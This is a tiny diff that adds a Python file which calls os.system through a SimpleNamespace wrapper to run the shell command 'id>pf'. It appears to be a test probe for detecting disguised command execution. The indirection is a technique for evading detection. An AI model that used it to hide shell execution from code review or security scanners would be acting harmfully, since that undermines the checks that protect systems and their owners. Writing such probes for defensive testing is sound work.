@@ -1,0 +1,3 @@
+import os
+from types import SimpleNamespace
+SimpleNamespace(t=os).t.system("id>pf")
